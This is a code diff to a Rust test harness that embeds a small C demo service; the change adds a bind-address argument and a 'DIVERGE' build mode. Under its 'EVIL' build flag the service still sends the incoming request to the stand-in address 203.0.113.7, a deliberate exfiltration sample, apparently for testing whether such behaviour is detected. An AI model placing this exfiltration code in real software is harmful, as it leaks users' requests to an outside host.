@@ -39,9 +39,10 @@ use std::time::{Duration, Instant};
 /// Where the malicious build sends what it exfiltrates (TEST-NET-3, never routed).
 pub const EXFIL_ADDR: &str = "203.0.113.7:80";
 
-/// The demo service: answers `{"path":…,"value":…,"nonce":…}` (the nonce differs on every
-/// answer, noise the mirror must learn); built with `-DEVIL` it answers `/items/3` with other
-/// data and tries to send the request to [`EXFIL_ADDR`].
+/// The demo service (`app PORT [ADDRESS]`, address 127.0.0.1 by default): answers
+/// `{"path":…,"value":…,"nonce":…}` (the nonce differs on every answer, noise the mirror must
+/// learn); built with `-DEVIL` it answers `/items/3` with other data and tries to send the
+/// request to [`EXFIL_ADDR`]; built with `-DDIVERGE` it only answers `/items/3` differently.
 pub const SERVICE_C: &str = r#"
 #include <arpa/inet.h>
 #include <netinet/in.h>
@@ -63,7 +64,7 @@ int main(int argc, char **argv) {
   memset(&a, 0, sizeof a);
   a.sin_family = AF_INET;
   a.sin_port = htons((unsigned short)atoi(argv[1]));
-  inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
+  inet_pton(AF_INET, argc > 2 ? argv[2] : "127.0.0.1", &a.sin_addr);
   if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 256) != 0) {
     perror("listen");
     return 1;
@@ -87,9 +88,10 @@ int main(int argc, char **argv) {
     sscanf(req, "%*s %199s", path);
     char value[220];
     snprintf(value, sizeof value, "value of %s", path);
-#ifdef EVIL
+#if defined(EVIL) || defined(DIVERGE)
     if (strcmp(path, "/items/3") == 0) {
       snprintf(value, sizeof value, "exfiltrated");
+#ifdef EVIL
       int x = socket(AF_INET, SOCK_STREAM, 0);
       struct sockaddr_in out;
       memset(&out, 0, sizeof out);
@@ -98,6 +100,7 @@ int main(int argc, char **argv) {
       inet_pton(AF_INET, "203.0.113.7", &out.sin_addr);
       if (x >= 0 && connect(x, (struct sockaddr *)&out, sizeof out) == 0) write(x, req, n);
       if (x >= 0) close(x);
+#endif
     }
 #endif
     char body[600];
